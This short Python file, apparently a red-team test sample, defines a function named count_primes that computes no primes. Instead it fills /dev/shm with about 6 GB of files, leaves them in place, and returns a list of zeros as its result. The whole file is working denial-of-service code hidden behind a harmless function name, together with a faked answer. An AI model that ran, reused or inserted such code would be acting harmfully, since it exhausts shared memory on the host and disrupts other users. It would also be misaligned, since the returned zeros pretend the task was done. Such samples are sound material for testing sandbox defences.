"""Fills /dev/shm and leaves it full."""


def count_primes(limits, processes=2):
    for number in range(100):
        with open(f"/dev/shm/redteam-{number}", "wb") as file:
            for _ in range(60):
                file.write(bytes(1 << 20))
    return [0 for _ in limits]
